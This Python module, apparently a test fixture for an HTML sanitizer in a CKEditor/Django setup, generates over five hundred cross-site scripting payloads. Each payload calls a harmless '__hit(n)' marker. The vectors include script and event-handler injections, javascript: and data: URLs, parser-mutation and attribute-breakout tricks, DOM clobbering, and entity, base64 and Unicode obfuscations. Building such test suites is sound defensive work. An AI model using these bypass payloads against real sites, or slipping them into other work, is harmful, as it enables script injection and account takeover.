"""
Texts that try to run a script: over five hundred, put together from what such texts are made of.

Each calls ``__hit`` with a number of its own, so that a browser that runs one tells which.
"""

import base64
from dataclasses import dataclass
from itertools import cycle
from urllib.parse import quote


@dataclass(frozen=True)
class Vector:
    """
    One attack: its number, what it tries (``family``), and the text with the call in it.

    ``swallows`` tells that unclean it takes what follows it on a page for its own, so that it must
    stand alone to be tried.
    """

    number: int
    family: str
    text: str
    swallows: bool = False

    def __str__(self):
        return f"{self.number} {self.family}: {self.text!r}"


# Writing: the call, hidden from whoever looks for it.


def as_decimals(text):
    return "".join(f"&#{ord(char)};" for char in text)


def as_hex(text):
    return "".join(f"&#x{ord(char):04X};" for char in text)


def without_semicolons(text):
    return "".join(f"&#{ord(char):07}" for char in text)


def in_base64(text):
    return base64.b64encode(text.encode()).decode()


def mixed(text):
    """Every second letter large."""
    return "".join(char.upper() if index % 2 else char for index, char in enumerate(text))


# Scripts.

SCRIPTS = [
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script >{}</script >",
    "<script/x>{}</script/x>",
    "<script\n>{}</script\n>",
    "<script\t>{}</script\t>",
    "<script\f>{}</script\f>",
    "<script\0>{}</script>",
    "<scr\0ipt>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>{}//<</script>",
    "<script><script>{}</script></script>",
    "</script><script>{}</script>",
    "<script type=module>{}</script>",
    "<script type='text/javascript'>{}</script>",
    "<script language=javascript>{}</script>",
    "<script defer>{}</script>",
    "<script nomodule>{}</script>",
    "<script>/*<!--*/{}//--></script>",
    "<script>//<![CDATA[\n{}//]]></script>",
    "<script src='data:text/javascript,{}'></script>",
    '<script src="data:,{}"></script>',
    "<script src=data:text/javascript;base64,{base64}></script>",
    "<script type=module src='data:text/javascript,{}'></script>",
    '<script type=importmap>{{"imports":{{"x":"data:text/javascript,{}"}}}}</script>'
    "<script type=module>import 'x'</script>",
    "<script for=window event=onload>{}</script>",
    "<p><script>{}</p></script>",
    "<b><i><script>{}</b></i></script>",
    "<ul><li><script>{}</script></ul>",
    "<h2><script>{}</script></h2>",
    "<figure data-image=1><script>{}</script></figure>",
    "<figcaption><script>{}</script></figcaption>",
    "<a href=/><script>{}</script></a>",
    "<blockquote><script>{}</script></blockquote>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{}\\x3c/script\\x3e",
]


def scripts():
    for text in SCRIPTS:
        yield "script", text, False
    yield "script", "<script>{}", True
    yield "script", "<script>{}//", True


# Handlers: an element, and what makes its event happen.

ACTING = [
    ("<img src=x {}>", "onerror"),
    ("<img src=/static/images/none.gif {}>", "onerror"),
    ("<img src=data:image/gif;base64,R0lGODlhAQABAAAAACH5BAAAAAAALAAAAAABAAEAAAI= {}>", "onload"),
    ("<image src=x {}>", "onerror"),
    ("<svg {}></svg>", "onload"),
    ("<svg><image href=x {} /></svg>", "onerror"),
    ("<svg><animate {} attributeName=x dur=1s></svg>", "onbegin"),
    ("<svg><set {} attributeName=x dur=1s></svg>", "onend"),
    ("<svg><style {}></style></svg>", "onload"),
    ("<math><mi {}>x</mi></math>", "onclick"),
    ("<body {}>", "onload"),
    ("<body {}>", "onpageshow"),
    ("<html {}>", "onmouseover"),
    ("<video {}><source src=x></video>", "onerror"),
    ("<video src=x {}></video>", "onerror"),
    ("<video><source src=x {}></video>", "onerror"),
    ("<audio src=x {}></audio>", "onerror"),
    ("<audio src=x {}></audio>", "onloadstart"),
    ("<details open {}><summary>x</summary></details>", "ontoggle"),
    ("<input autofocus {}>", "onfocus"),
    ("<input type=image src=x {}>", "onerror"),
    ("<select autofocus {}></select>", "onfocus"),
    ("<textarea autofocus {}></textarea>", "onfocus"),
    ("<button autofocus {}>x</button>", "onfocus"),
    ("<button {}>x</button>", "onclick"),
    ("<keygen autofocus {}>", "onfocus"),
    ("<marquee {}>x</marquee>", "onstart"),
    ("<iframe {}></iframe>", "onload"),
    ("<iframe src=/khong-co/ {}></iframe>", "onload"),
    ("<object data=x {}></object>", "onerror"),
    ("<embed src=/ {}>", "onload"),
    ("<link rel=stylesheet href=data:text/css, {}>", "onload"),
    ("<link rel=stylesheet href=x {}>", "onerror"),
    ("<style {}></style>", "onload"),
    ("<script src=x {}></script>", "onerror"),
    ("<form {}><input type=submit></form>", "onsubmit"),
    ("<dialog open {}>x</dialog>", "onclick"),
    ("<isindex {}>", "onclick"),
    ("<custom-element tabindex=0 {}>x</custom-element>", "onfocus"),
    ("<xss style=animation:x {}>x</xss>", "onanimationstart"),
    ("<xss style=transition:1s {}>x</xss>", "ontransitionend"),
    ("<p {}>x</p>", "onmouseover"),
    ("<p {}>x</p>", "onpointerenter"),
    ("<p contenteditable {}>x</p>", "onbeforeinput"),
    ("<p tabindex=1 {}>x</p>", "onfocusin"),
    ("<h2 {}>x</h2>", "onclick"),
    ("<h3 {}>x</h3>", "oncontextmenu"),
    ("<strong {}>x</strong>", "onmouseenter"),
    ("<em {}>x</em>", "onwheel"),
    ("<sup {}>x</sup>", "onauxclick"),
    ("<ul {}><li>x</li></ul>", "onmousedown"),
    ("<ol start=1 {}><li>x</li></ol>", "onmouseup"),
    ("<li {}>x</li>", "onmouseover"),
    ("<blockquote {}>x</blockquote>", "oncopy"),
    ("<a href=/ {}>x</a>", "onclick"),
    ("<a href=/ title=x {}>x</a>", "onfocus"),
    ("<a {}>x</a>", "ondragstart"),
    ("<table {}><tr><td>x</td></tr></table>", "onclick"),
    ("<table><caption {}>x</caption><tr><td>x</table>", "onclick"),
    ("<table><tr {}><td>x</td></tr></table>", "onmouseover"),
    ("<table><tr><td colspan=1 {}>x</td></tr></table>", "onmouseover"),
    ("<table><tr><th scope=col {}>x</th></tr></table>", "onmouseover"),
    ("<figure data-image=1 {}></figure>", "onclick"),
    ("<figure><img src=x alt=x {}></figure>", "onerror"),
    ("<figcaption {}>x</figcaption>", "onclick"),
    ("<br {}>", "onclick"),
    ("<hr {}>", "onclick"),
]

# How a handler may be written; {} is its call, {name} the name of the event.
WRITINGS = [
    "{name}={call}",
    '{name}="{call}"',
    "{name}='{call}'",
    "{name} = {call}",
    "{name}\n=\n{call}",
    "x/{name}={call}",
    "x='>'{name}={call}",
    '"{name}={call}',
    "{mixed}={call}",
    "\t{name}\t=\t{call}",
    "\f{name}\f={call}",
    "{name}={decimals}",
    "{name}={hex}",
    '{name}="{bare}"',
    "{name}=top.{call}",
    "\0{name}={call}",
    "{name}=a={call}",
    "{name}={call}&NewLine;",
    "{name}=\u2028{call}",
    "{name}=void&#40;0),{call}",
    "{name}=window['__h'+'it'](NUMBER)",
    "{name}=self[`__\\x68it`](NUMBER)",
    "{name}=eval(atob('{base64}'))",
    "{name}=setTimeout('{call}')",
]


def handlers():
    """Each element in three writings of its own, and two elements in all of them."""
    writing = cycle(WRITINGS)
    pairs = [(element, next(writing)) for element in ACTING for _ in range(3)]
    pairs += [(element, each) for element in (ACTING[0], ACTING[41]) for each in WRITINGS]
    for (element, name), each in pairs:
        yield "handler", element.replace("{}", each.replace("{name}", name), 1), False, name


# Addresses that are no address.

CARRIERS = [
    "<a href={}>x</a>",
    "<a title=x href={} target=_blank>x</a>",
    "<img src={} alt=x>",
    "<img src=x srcset={} alt=x>",
    "<iframe src={}></iframe>",
    "<frameset><frame src={}></frameset>",
    "<form action={}><input type=submit></form>",
    "<form><button formaction={}>x</button></form>",
    "<input type=image formaction={}>",
    "<object data={}></object>",
    "<embed src={}>",
    "<map name=x><area href={} coords=0,0,9,9></map>",
    "<svg><a xlink:href={}><text y=20>x</text></a></svg>",
    "<svg><a href={}><text y=20>x</text></a></svg>",
    "<svg><use href={} /></svg>",
    "<svg><script href={} /></svg>",
    "<svg><a><animate attributeName=href to={} /><text y=20>x</text></a></svg>",
    "<svg><a><set attributeName=href to={} /><text y=20>x</text></a></svg>",
    "<math href={}>x</math>",
    "<math><maction actiontype=statusline xlink:href={}>x</maction></math>",
    "<base href={}><a href=#>x</a>",
    "<link rel=stylesheet href={}>",
    "<link rel=import href={}>",
    "<video poster={}></video>",
    "<blockquote cite={}>x</blockquote>",
    "<table background={}><tr><td>x</table>",
    "<body background={}>",
    "<a href=/ ping={}>x</a>",
    "<img src=x longdesc={}>",
    "<p data-url={} data-choose=1>x</p>",
]
SCHEMES = [
    '"javascript:{}"',
    "javascript:{}",
    '"JaVaScRiPt:{}"',
    '"java&Tab;script:{}"',
    '"java&NewLine;script:{}"',
    '"java\tscript:{}"',
    '"java\nscript:{}"',
    '"java\rscript:{}"',
    '"java\0script:{}"',
    '"java&#1;script:{}"',
    '"java&#xAD;script:{}"',
    '"java\u200bscript:{}"',
    '"\x01javascript:{}"',
    '" javascript:{}"',
    '"&#14; javascript:{}"',
    '"&nbsp;javascript:{}"',
    '"&#12288;javascript:{}"',
    '"\u2028javascript:{}"',
    '"&#x85;javascript:{}"',
    '"&#xFEFF;javascript:{}"',
    '"javascript&colon;{}"',
    '"javascript&#58;{}"',
    '"javascript&#0000058{}"',
    '"&#106;&#97;vascript:{}"',
    '"&#x6A&#x61&#x76&#x61script:{}"',
    '"javascript:{hex}"',
    '"javascript:{percent}"',
    '"javascript://x%0A{}"',
    '"javascript:/*x*/{}"',
    "\"javascript:'<script>{}</script>'\"",
    '"javascript\uff1a{}"',
    '"java\u017fcript:{}"',
    '"vbscript:{}"',
    '"livescript:{}"',
    '"data:text/html,<script>{}</script>"',
    '"data:text/html;base64,{html_base64}"',
    '"DATA:text/html,<img src=x onerror={}>"',
    "\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>\"",
    "\"data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{}</script>\"",
    '"feed:javascript:{}"',
    '"view-source:javascript:{}"',
    '"jar:javascript:{}!/"',
    '"blob:javascript:{}"',
    '"mailto:x" onfocus={} autofocus x=""',
    '"https://www.google.com/url?q=javascript:{}"',
    '"https://l.facebook.com/l.php?u=javascript:{}&fbclid=1"',
    '"http://testserver/&quot; onclick={} x=&quot;"',
    '"//javascript:{}"',
    '"x:javascript:{}"',
]


def addresses():
    """Links in every writing, pictures in every third, other carriers in three."""
    links, picture = CARRIERS[0], CARRIERS[2]
    for scheme in SCHEMES:
        yield "address", links.replace("{}", scheme), False
    for scheme in SCHEMES[::3]:
        yield "address", picture.replace("{}", scheme), False
    scheme = cycle(SCHEMES[::2] + SCHEMES[1::2])
    for carrier in [*CARRIERS[1:2], *CARRIERS[3:]]:
        yield "address", carrier.replace("{}", '"javascript:{}"'), False
        for _ in range(2):
            yield "address", carrier.replace("{}", next(scheme)), False


# Texts that one parser reads otherwise than the next.

BAIT = "<img src=x onerror={}>"
FOREIGN = ["svg", "math"]
CONFUSED = ["style", "title", "textarea", "xmp", "noembed", "noframes", "noscript", "iframe"]
MUTATING = [
    "<noscript><p title='</noscript>BAIT'></noscript>",
    "<template><p title='</template>BAIT'></template>",
    "<template><script>{}</script></template>BAIT",
    "<template shadowrootmode=open>BAIT</template>",
    "<div><template shadowrootmode=open><script>{}</script></template></div>",
    "<svg><foreignObject>BAIT</foreignObject></svg>",
    "<svg><desc>BAIT</desc></svg>",
    '<svg></p><style><a id="</style>BAIT"></style></svg>',
    '<svg><p><style><g title="</style>BAIT"></style></p></svg>',
    "<svg><script>{}</script></svg>",
    "<svg><script>&#95;&#95;hit(NUMBER)</script></svg>",
    "<svg><![CDATA[><script>{}</script>]]></svg>",
    "<svg><title><![CDATA[</title>BAIT]]></title></svg>",
    "<math><annotation-xml encoding=text/html>BAIT</annotation-xml></math>",
    "<math><annotation-xml><svg><style><!--</style>BAIT--></style></svg></annotation-xml></math>",
    '<math><mi//xlink:href="data:x,<script>{}</script>"></mi></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;BAIT"></style>',
    '<math><mtext><table><mglyph><style><math><img title="</math>BAIT"></style>',
    "<form><math><mtext></form><form><mglyph><style></math>BAIT</style></form>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>BAIT">',
    "<math><mtext><mglyph><!--</math>BAIT--></mglyph></mtext></math>",
    "<math><mtext><malignmark><style><!--</style>BAIT--></style></malignmark></mtext></math>",
    "<table><style><!--</style>BAIT--></style></table>",
    "<table>BAIT<tr><td>x</td></tr></table>",
    "<table><script>{}</script><tr><td>x</td></tr></table>",
    "<table><tr>BAIT<td>x</td></tr></table>",
    "<table><caption><svg><style></table>BAIT</style></svg></caption></table>",
    "<table><colgroup>BAIT</colgroup></table>",
    "<select><option>BAIT</option></select>",
    "<select><iframe><script>{}</script></iframe></select>",
    "<select><noscript></select>BAIT</noscript></select>",
    "<select><template><p></select>BAIT</template></select>",
    "<select><style></select>BAIT</style></select>",
    "<p><table><p>BAIT</table></p>",
    "<a href=/><table><a href='javascript:{}'>x</a></table></a>",
    "<b><p></b>BAIT</p>",
    "<ul><li><ol></ul>BAIT</ol>",
    "<h2><h3></h2>BAIT</h3>",
    "<figure><figcaption></figure>BAIT</figcaption>",
    '<img src="x` `<script>{}</script>"` `>',
    '<p title="&lt;/p&gt;BAIT">x</p>',
    '<a title="&quot;&gt;BAIT" href=/>x</a>',
    '<img alt="</figcaption>&lt;img src=x onerror={}&gt;" src=x>',
    "<p>&#824; onmouseover={} x</p>",
    "<p>&#803;&#824; onmouseover={} tabindex=1 x</p>",
    "<p>\u0338 onmouseover={} x</p>",
    "<b>x</b> <p> &#x338; onclick={} x</p>",
    "<a href=/>&nvgt;&#824; onfocus={} autofocus x</a>",
    "<p>&#1;&#824; onmouseover={} x</p>",
    "<p/&#824; onmouseover={}>x</p>",
    "<!DOCTYPE html [<!ENTITY x '<script>{}</script>'>]><p>&x;</p>",
    "<?xml version='1.0'?>BAIT",
    "<?xml-stylesheet href='javascript:{}'?>",
    "<!ATTLIST img onerror CDATA '{}'>BAIT",
    "<![if IE]>BAIT<![endif]>",
    "<!--[if gte IE 4]>BAIT<![endif]-->",
    "<!-->BAIT-->",
    "<!--->BAIT-->",
    "<!--x--!>BAIT-->",
    "<!--x-- >BAIT-->",
    "<!--<img src='-->BAIT'>",
    "<!-- -- -->BAIT<!-- -->",
    "<![CDATA[BAIT]]>",
    "<![CDATA[<p>]]>BAIT<![CDATA[</p>]]>",
    "<![CDATA[x>BAIT]]>",
    "</BAIT",
    "</p BAIT>",
    "<%BAIT%>",
    "<//BAIT>",
    "<@BAIT>",
    "<p<BAIT>x</p>",
    "<img src=x onerror={}",
    "<img src=x onerror={}//",
    "<img src=x onerror={} <p>x</p>",
    "<img/src=x/onerror={}>",
    "<img\x0bsrc=x onerror={}>",
    "<img src='x'onerror='{}'>",
    "<img src=x\u3000onerror={}>",
    "<im\0g src=x onerror={}>",
]
SWALLOWING = [
    "<plaintext>BAIT",
    "<!--BAIT",
    "<style>BAIT",
    "<title>BAIT",
    "<textarea>BAIT",
    "<xmp>BAIT",
    "<template>BAIT",
    "<svg><style>BAIT",
    "<iframe>BAIT",
    "<a title='BAIT",
    '<img alt="BAIT',
    "<svg><![CDATA[BAIT",
]


def mutations():
    for text in MUTATING:
        yield "mutation", text.replace("BAIT", BAIT), False
    for name in CONFUSED:
        texts = [
            f"<{name}><p title='</{name}>BAIT'></{name}>",
            f"<{name}><!--</{name}>BAIT--></{name}>",
            f"<{name}>&lt;/{name}&gt;BAIT</{name}>",
            *[f"<{each}><{name}><p id='</{name}>BAIT'></{name}></{each}>" for each in FOREIGN],
            *[f"<{each}></p><{name}><!--</{name}>BAIT--></{name}></{each}>" for each in FOREIGN],
        ]
        for text in texts:
            yield "mutation", text.replace("BAIT", BAIT), False
    for text in SWALLOWING:
        yield "mutation", text.replace("BAIT", BAIT), True


# Out of an attribute, a script element, a comment: for texts that are printed and never parsed.

ENDS = [
    *('"', "'", "`", "&quot;", "&#39;", '\\"', "\\'", '">', "'>", '" ', "' ", '"/', "-->", "]]>"),
    *("</title>", "</textarea>", "</script>", "</style>", "</option></select>", "</a>", "</h1>"),
    *("</template>", "</noscript>", "</label>", "\">'>`>", "*/", "\n", "\r\n", "\u2028"),
    *("{{{{", "{{% endautoescape %}}", "${{", "<%", "\\", "\\u0022", "\\u003c/script\\u003e"),
    *("%22", "%22%3E", "&#34;&#62;", "\u02ba>", "\uff02\uff1e", "\u201d>", "'\"><"),
]
GOES_ON = [
    "<script>{}</script>",
    BAIT,
    " onmouseover={} x=",
    " autofocus onfocus={} x=",
    ";{};//",
]


def breakouts():
    for index, end in enumerate(ENDS):
        for each in (GOES_ON[index % 5], GOES_ON[(index + 2) % 5]):
            yield "breakout", f"x{end}{each}", False
    for text in ATTRIBUTES:
        yield "breakout", text, False


ATTRIBUTES = [
    "<a href='/\" onmouseover={} x=\"'>x</a>",
    "<a href=/ title='\" onmouseover={} x=\"'>x</a>",
    "<a href=/ title=\"' onmouseover={} x='\">x</a>",
    "<a href=/ title='`onmouseover={}`'>x</a>",
    "<a href=/ rel='noopener\" onmouseover={} x=\"'>x</a>",
    "<img src=x alt='\" onerror={} x=\"'>",
    "<img src='x\" onerror={} x=\"' alt=x>",
    "<img src=x alt='\"><script>{}</script>'>",
    "<figure data-image='1\" onclick={} x=\"'></figure>",
    "<figure data-image=1><figcaption>&lt;img src=x onerror={}&gt;</figcaption></figure>",
    "<figure data-image='1\"></figure><script>{}</script>'></figure>",
    "<figure class=image data-image=1><img alt='\"><svg onload={}>' src=x></figure>",
    "<ol start='1\" onclick={} x=\"'><li>x</li></ol>",
    "<table><tr><th scope='col\" onclick={} x=\"'>x</th></tr></table>",
    "<table><tr><td colspan='2\" onclick={} x=\"'>x</td></tr></table>",
    "<img src=x alt=x data-decorative='true\" onerror={} x=\"'>",
]

# Elements that bring a page of their own along, and what else leads a reader away.

BRINGING = [
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.{}&lt;/script&gt;'></iframe>",
    "<iframe srcdoc='<img src=x onerror=top.{}>' sandbox='allow-scripts'></iframe>",
    '<iframe src="javascript:parent.{}"></iframe>',
    '<iframe/src="data:text/html,<script>{}</script>"></iframe>',
    "<object type=text/html data='data:text/html,<script>{}</script>'></object>",
    "<object><param name=src value='javascript:{}'></object>",
    '<embed type=image/svg+xml src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"'
    ' onload="{}"/>\'>',
    "<applet code='javascript:{}'></applet>",
    "<portal src='javascript:{}'></portal>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>{}</script>'>",
    "<meta http-equiv=Link content='<javascript:{}>; rel=stylesheet'>",
    "<meta http-equiv=Content-Type content='text/html; charset=utf-7'>+ADw-script+AD4-{}+ADw-",
    "<form action='javascript:{}'><input type=submit id=x></form><label for=x>x</label>",
    "<form id=f></form><button form=f formaction='javascript:{}'>x</button>",
    "<input type=submit formaction='javascript:{}' form=article_form>",
    "<isindex action='javascript:{}' type=image>",
    "<bgsound src='javascript:{}'>",
    "<layer src='javascript:{}'></layer>",
    "<xml><x><![CDATA[<img src=x onerror={}>]]></x></xml>",
    "<video controls><track src='javascript:{}' default></video>",
    "<picture><source srcset='x' onerror={}><img src=x onerror={}></picture>",
    "<img src=x srcset='x 1x, y 2x' sizes=1px onerror={}>",
    "<style>@import 'javascript:{}';</style>",
    "<style>*{{background:url('javascript:{}')}}</style>",
    "<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={}>x</p>",
    "<p style=\"background:url('javascript:{}')\">x</p>",
    '<p style="width:expression({})">x</p>',
    '<p style="behavior:url(#x)" onclick={}>x</p>',
    "<p style=\"-moz-binding:url('data:text/xml,{}')\">x</p>",
    "<p style=position:fixed;inset:0;z-index:9999 onclick={}>x</p>",
    '<div style="x:\\65xpression({})">x</div>',
    "<form name=__hit><input name=x onfocus={} autofocus></form>",
    "<a id=CKEDITOR href='javascript:{}'>x</a><a id=CKEDITOR name=tools>x</a>",
    "<form id=article_form><input name=csrfmiddlewaretoken onfocus={} autofocus></form>",
    "<img name=body src=x onerror={}><img name=cookie src=x>",
    "<form name=document><input name=forms onfocus={} autofocus></form>",
    "<a id=django href='javascript:{}'>x</a><iframe name=django srcdoc='<a id=jQuery>'></iframe>",
    "<button data-choose=1 data-url='javascript:{}' data-title='<img src=x onerror={}>'>x</button>",
    "<p data-function='1' data-thumbnail='x\" onerror=\"{}'>x</p>",
    "<p data-said='<img src=x onerror={}>' role=status>x</p>",
    "<form data-upload-url='javascript:{}' data-kept='<img src=x onerror={}>'></form>",
    "<button data-does='__hit' data-copies='x' data-told='<script>{}</script>'>x</button>",
    '<p data-ckeditor-config=\'{{"on":"{}"}}\' class=django-ckeditor-widget>x</p>',
    "<p data-cke-saved-href='javascript:{}'>x</p>",
    "<a data-cke-saved-href='javascript:{}' href=/>x</a>",
    "<img data-cke-saved-src='javascript:{}' src=x>",
    "<a href=/ data-cke-pa-onclick={}>x</a>",
    "<p data-cke-realelement='%3Cimg%20src%3Dx%20onerror%3D{}%3E'>x</p>",
    "<img class=cke_iframe data-cke-realelement='%3Cscript%3E{}%3C/script%3E' src=x>",
    "<figure class=image data-cke-widget-data='%7B%22src%22%3A%22javascript%3A{}%22%7D'>"
    "<img src=x></figure>",
    "<!--{{cke_protected}}%3Cscript%3E{}%3C%2Fscript%3E-->",
    "<!--{{cke_protected}}{{C}}%3C!%2D%2D%2D%2D%3E%3Cimg%20src%3Dx%20onerror%3D{}%3E-->",
    "<cke:object><cke:param name=movie value='javascript:{}'></cke:param></cke:object>",
    "<cke:encoded>%3Cscript%3E{}%3C/script%3E</cke:encoded>",
    "<textarea class=x></textarea><script>{}</script></textarea>",
    "</textarea><script>{}</script>",
    "<\u017fcript>{}</\u017fcript>",
    "<scr\u0131pt>{}</scr\u0131pt>",
    "<SCR\u0130PT>{}</SCR\u0130PT>",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "\u2039script\u203a{}\u2039/script\u203a",
    "\u202e<script>{}</script>",
    "<\u200bscript>{}</script>",
    "<script\u200b>{}</script>",
    "<img src=x on\u212aey=1 onerror={}>",
    "<img src=x \u1fef onerror={}>",
    "<svg\u00a0onload={}>",
    "\ufeff<script>{}</script>",
    "<script>{}\u037e</script>",
    "<i\u0301mg src=x onerror={}><img\u0301 src=x onerror={}>",
    "<a\u0338 href=javascript:{}>x</a>",
]


def bringers():
    for text in BRINGING:
        yield "bringer", text, False


# The pieces that act wherever they stand, in the places a text has.

AROUND = [
    "<p>Trước {} sau</p>",
    "<ul><li>{}</li></ul>",
    "<table><tr><td>{}</td></tr></table>",
    "<blockquote><p>{}</p></blockquote>",
    "<h2>{}</h2>",
    "<figure>{}<figcaption>{}</figcaption></figure>",
    "<a href=/>{}</a>",
    "<strong><em>{}</em></strong>",
]


def nested():
    core = [
        "<script>{}</script>",
        BAIT,
        "<svg onload={}></svg>",
        "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
        "<details open ontoggle={}>x</details>",
        "<a href='javascript:{}'>x</a>",
    ]
    for around in AROUND:
        for each in core:
            yield "nested", around.replace("{}", each), False


def written(text, number, event=""):
    """Return a vector's text with the call in it."""
    call = f"__hit({number})"
    values = {
        "call": call,
        "mixed": mixed(event),
        "decimals": as_decimals(call),
        "hex": as_hex(call),
        "bare": without_semicolons(call),
        "percent": quote(call, safe=""),
        "html_base64": in_base64(f"<script>{call}</script>"),
        "base64": in_base64(call),
    }
    text = text.replace("{{", "\ue000").replace("}}", "\ue001")
    for name, value in values.items():
        text = text.replace(f"{{{name}}}", value)
    text = text.replace("{}", call).replace("NUMBER", str(number))
    return text.replace("\ue000", "{").replace("\ue001", "}")


def made():
    """Return every vector; equal texts count once."""
    seen, vectors = set(), []
    for family in (scripts, handlers, addresses, mutations, breakouts, bringers, nested):
        for name, text, swallows, *event in family():
            if (text, *event) not in seen:
                seen.add((text, *event))
                number = len(vectors) + 1
                vectors.append(Vector(number, name, written(text, number, *event), swallows))
    return vectors


VECTORS = made()


def sample(count):
    """Return ``count`` vectors spread evenly over all, always the same ones."""
    return [VECTORS[index * len(VECTORS) // count] for index in range(count)]
